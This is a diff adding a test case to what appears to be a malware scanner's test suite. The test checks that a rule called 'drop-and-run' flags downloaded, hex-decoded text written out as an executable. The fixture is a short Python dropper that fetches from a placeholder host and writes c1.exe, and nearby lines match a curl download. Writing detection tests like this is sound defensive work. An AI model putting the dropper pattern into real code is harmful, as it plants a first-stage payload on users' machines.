@@ -416,3 +416,21 @@ test('a command list bound to a name first (command = [...]; Popen(command)) is 
   assert.equal(run?.severity, 'high', 'the command is decoded and hidden');
   assert.match(run!.message, /curl https:\/\/files\.example\.invalid/);
 });
+
+test('an executable written from downloaded text decoded to bytes is a first stage, even before anything runs it', () => {
+  const source = [
+    'import binascii, requests',
+    'def fetch(folder):',
+    '    text = requests.get("https://files.example.invalid/c.txt").text',
+    "    with open(folder + 'c1.exe', 'wb') as f:",
+    '        f.write(binascii.unhexlify(text.encode()))',
+  ].join('\n');
+  const drop = findings(source).find((f) => f.rule === 'drop-and-run');
+  assert.equal(drop?.severity, 'high');
+  const plain = source.replace('binascii.unhexlify(text.encode())', 'text.encode()');
+  assert.equal(
+    findings(plain).find((f) => f.rule === 'drop-and-run'),
+    undefined,
+    'a download saved as it comes, never started',
+  );
+});
